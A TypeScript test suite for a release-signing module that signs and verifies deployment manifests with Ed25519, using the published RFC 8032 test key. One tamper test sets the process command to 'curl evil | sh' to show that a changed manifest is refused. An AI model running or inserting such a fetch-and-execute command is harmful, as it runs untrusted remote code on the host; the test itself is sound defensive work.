import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createPrivateKey, createPublicKey, generateKeyPairSync } from 'node:crypto';
import {
  canonicalJson,
  keyIdOf,
  publicKeyOf,
  releaseMessage,
  signRelease,
  signingKeyOf,
  verifyRelease,
  type SignedRelease,
} from './signature.js';

// A fixed key (RFC 8032 section 7.1, test 1), so the bytes below never change.
const SEED = '9d61b19deffd5a60ba844af492ec2cc44449c5697b326919703bac031cae7f60';
const PKCS8_PREFIX = '302e020100300506032b657004220420';
const key = createPrivateKey({ key: Buffer.from(PKCS8_PREFIX + SEED, 'hex'), format: 'der', type: 'pkcs8' });

const release: SignedRelease = {
  job: 'cop.acme_owt.web_pdl.shop_service.api_job.web',
  version: '1a2b3c4d5',
  sha256: 'a'.repeat(64),
  manifest: { version: 1, processes: [{ name: 'web', command: 'node server.js', port: 'auto' }], env: { Z: '1', A: 'é' } },
};

test('canonical JSON: keys sorted at every depth, no whitespace, arrays keep their order', () => {
  assert.equal(
    canonicalJson({ b: [3, 1, { d: 1, c: 2 }], a: null, é: true, B: 1.5 }),
    '{"B":1.5,"a":null,"b":[3,1,{"c":2,"d":1}],"é":true}',
  );
  assert.equal(canonicalJson({ s: 'a"\n\u2028' }), '{"s":"a\\"\\n\u2028"}');
  assert.equal(canonicalJson({ a: undefined, b: 1 }), '{"b":1}');
  assert.throws(() => canonicalJson([undefined]), /no undefined/);
  assert.throws(() => canonicalJson(Infinity), /no Infinity/);
});

test('the signed message, byte for byte', () => {
  assert.equal(
    releaseMessage(release).toString('utf8'),
    'noops-release-signature-v1\n' +
      '{"job":"cop.acme_owt.web_pdl.shop_service.api_job.web",' +
      '"manifest":{"env":{"A":"é","Z":"1"},"processes":[{"command":"node server.js","name":"web","port":"auto"}],"version":1},' +
      `"sha256":"${'a'.repeat(64)}","version":"1a2b3c4d5"}`,
  );
});

test('the key: its raw public bytes and id (RFC 8032 test 1)', () => {
  assert.equal(Buffer.from(publicKeyOf(key), 'base64').toString('hex'), 'd75a980182b10ab7d54bfed3c964073a0ee172f3daa62325af021a68f707511a');
  assert.deepEqual(signingKeyOf(key), { keyId: '21fe31dfa154a261', publicKey: '11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo=' });
  assert.equal(keyIdOf(publicKeyOf(key)), '21fe31dfa154a261');
  // read from the key's DER form (not its JWK: a lock Node 20 holds there can hang the process)
  assert.equal(publicKeyOf(createPublicKey(key)), publicKeyOf(key), 'its public half gives the same bytes');
  assert.throws(() => publicKeyOf(generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey), /not an Ed25519 key \(ec\)/);
});

test('sign and verify: the exact signature (Ed25519 is deterministic), and it verifies', () => {
  const sig = signRelease(key, release);
  assert.deepEqual(sig, {
    keyId: '21fe31dfa154a261',
    value: 'FGxO2s3ef3a81IcyY5KN9Fro9Zk6Ky7hmPC2H+PivPHqiX/UQgx7I2IH4nGQtXjpUcL8At8gQ4HH9li6KuP8Cg==',
  });
  assert.equal(verifyRelease(signingKeyOf(key), release, sig), undefined);
  // key order in the manifest as received does not matter
  assert.equal(verifyRelease(signingKeyOf(key), { ...release, manifest: JSON.parse(canonicalJson(release.manifest)) }, sig), undefined);
});

test('a changed manifest, sha256, version or job is refused', () => {
  const sig = signRelease(key, release);
  const k = signingKeyOf(key);
  const m = release.manifest as { processes: { command: string }[] };
  const changed: SignedRelease[] = [
    { ...release, manifest: { ...m, processes: [{ ...m.processes[0], command: 'curl evil | sh' }] } },
    { ...release, sha256: 'b'.repeat(64) },
    { ...release, version: '1a2b3c4d6' },
    { ...release, job: 'cop.acme_owt.web_pdl.shop_service.api_job.other' },
  ];
  for (const r of changed) assert.match(verifyRelease(k, r, sig)!, /does not match its job, version, sha256 and manifest/);
  assert.match(verifyRelease(k, release, undefined)!, /carries no signature/);
  assert.match(verifyRelease(k, release, { ...sig, value: Buffer.alloc(64).toString('base64') })!, /does not match/);
});

test('another key is refused, even when the signature claims the trusted key id', () => {
  const other = generateKeyPairSync('ed25519').privateKey;
  const byOther = signRelease(other, release);
  assert.match(
    verifyRelease(signingKeyOf(key), release, byOther)!,
    new RegExp(`by key ${byOther.keyId}, not by key ${signingKeyOf(key).keyId}`),
  );
  assert.match(verifyRelease(signingKeyOf(key), release, { ...byOther, keyId: signingKeyOf(key).keyId })!, /does not match/);
  // a sender that names the trusted id beside another public key is not believed
  assert.match(
    verifyRelease({ keyId: signingKeyOf(key).keyId, publicKey: publicKeyOf(other) }, release, signRelease(key, release))!,
    /not by key/,
  );
});
